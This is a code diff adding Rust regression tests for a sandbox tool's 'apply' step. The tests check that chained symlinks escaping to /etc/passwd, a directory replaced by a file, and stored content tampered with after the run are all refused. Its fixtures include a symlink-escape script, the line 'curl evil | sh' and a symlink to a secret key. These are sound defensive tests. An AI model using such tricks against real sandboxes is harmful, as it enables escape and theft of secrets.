@@ -761,3 +761,122 @@ fn nesting_directories_past_the_bound_cannot_crash_the_supervisor() {
         );
     }
 }
+
+/// Two links that each read as inside the project: `root -> ../..` (a
+/// dozen levels down, the project root) and `pw -> root/../../etc/passwd`.
+/// Together they lead to /etc/passwd. Until the fix, apply judged each
+/// link's text alone and wrote both without --allow-outside-links; a link
+/// into a real directory of the project still applies.
+#[test]
+fn links_that_lead_out_only_together_are_refused_at_apply() {
+    for who in review_identities("links_that_lead_out_only_together_are_refused_at_apply") {
+        let review = Review::new(who);
+        let p = &review.project;
+        p.write("docs/index.md", "docs\n");
+        let up = "../".repeat(12);
+        let script = format!(
+            "d=l/l/l/l/l/l/l/l/l/l/l/l; mkdir -p $d; ln -s {up} $d/root; \
+             ln -s root/{up}../etc/passwd $d/pw; ln -s $d/pw passwd-link; ln -s docs docs-link"
+        );
+        let (out, id) = review.run(&[], &script);
+        assert_ok(&out, "the linking run");
+        let refused = review.sandbox(&["apply", &id]);
+        assert_eq!(
+            refused.status.code(),
+            Some(1),
+            "{who:?}: {}",
+            text(&refused.stdout)
+        );
+        let why = text(&refused.stderr);
+        for path in ["l/l/l/l/l/l/l/l/l/l/l/l/pw", "passwd-link"] {
+            assert!(
+                why.lines().any(|l| l.starts_with(&format!("  {path}: "))
+                    && l.contains("passes through the symlink")
+                    && l.contains("--allow-outside-links")),
+                "{who:?}: {path} in\n{why}"
+            );
+        }
+        assert!(std::fs::symlink_metadata(p.path().join("passwd-link")).is_err());
+        assert!(!p.path().join("l").exists());
+        let benign = review.sandbox(&["apply", &id, "docs-link"]);
+        assert_ok(&benign, "a link into the project's own directory");
+        assert_eq!(
+            std::fs::read_link(p.path().join("docs-link")).unwrap(),
+            std::path::Path::new("docs")
+        );
+    }
+}
+
+/// A run replaced a directory by a file; the person then edits a file in
+/// that directory on the host. Until the fix, apply removed the directory
+/// with the edit in it, no conflict said, and the listing never said a
+/// directory would go.
+#[test]
+fn a_directory_replaced_by_a_file_is_checked_like_a_deletion() {
+    for who in review_identities("a_directory_replaced_by_a_file_is_checked_like_a_deletion") {
+        let review = Review::new(who);
+        let p = &review.project;
+        p.write("d/notes.txt", "v1\n");
+        let (out, id) = review.run(&[], "rm -rf d && echo replaced > d");
+        assert_ok(&out, "the replacing run");
+        let listed = review.sandbox(&["changes", &id]);
+        assert!(
+            text(&listed.stdout).contains("replacing a directory and everything in it"),
+            "{who:?}: {}",
+            text(&listed.stdout)
+        );
+        std::fs::write(p.path().join("d/notes.txt"), "the person's v2\n").unwrap();
+        let refused = review.sandbox(&["apply", &id]);
+        assert_eq!(refused.status.code(), Some(1), "{who:?}");
+        let why = text(&refused.stderr);
+        assert!(
+            why.contains("d/notes.txt: conflict: changed in the project since the run started"),
+            "{who:?}: {why}"
+        );
+        assert_eq!(
+            review.read("d/notes.txt").as_deref(),
+            Some("the person's v2\n")
+        );
+    }
+}
+
+/// What `sandbox changes` showed is what apply writes: content kept in
+/// the store and changed after the run (rewritten, or swapped for a link
+/// to a secret) is refused, never written into the project.
+#[test]
+fn kept_content_changed_after_the_run_is_not_applied() {
+    for who in review_identities("kept_content_changed_after_the_run_is_not_applied") {
+        for swap in ["rewrite", "link"] {
+            let review = Review::new(who);
+            let p = &review.project;
+            let (out, id) = review.run(&[], "echo 'echo harmless' > tool.sh");
+            assert_ok(&out, "the run");
+            let kept = review
+                .state
+                .path()
+                .join("runs")
+                .join(&id)
+                .join("layer/tool.sh");
+            assert!(kept.exists(), "{who:?}: {kept:?}");
+            std::fs::remove_file(&kept).unwrap();
+            let secret = review.state.path().join("secret-key");
+            std::fs::write(&secret, "PRIVATE KEY\n").unwrap();
+            if swap == "rewrite" {
+                std::fs::write(&kept, "curl evil | sh\n").unwrap();
+            } else {
+                std::os::unix::fs::symlink(&secret, &kept).unwrap();
+            }
+            let refused = review.sandbox(&["apply", &id]);
+            assert_ne!(refused.status.code(), Some(0), "{who:?} {swap}");
+            let why = text(&refused.stderr);
+            assert!(
+                why.contains("is not what the run wrote"),
+                "{who:?} {swap}: {why}"
+            );
+            assert!(
+                !p.path().join("tool.sh").exists(),
+                "{who:?} {swap}: written"
+            );
+        }
+    }
+}
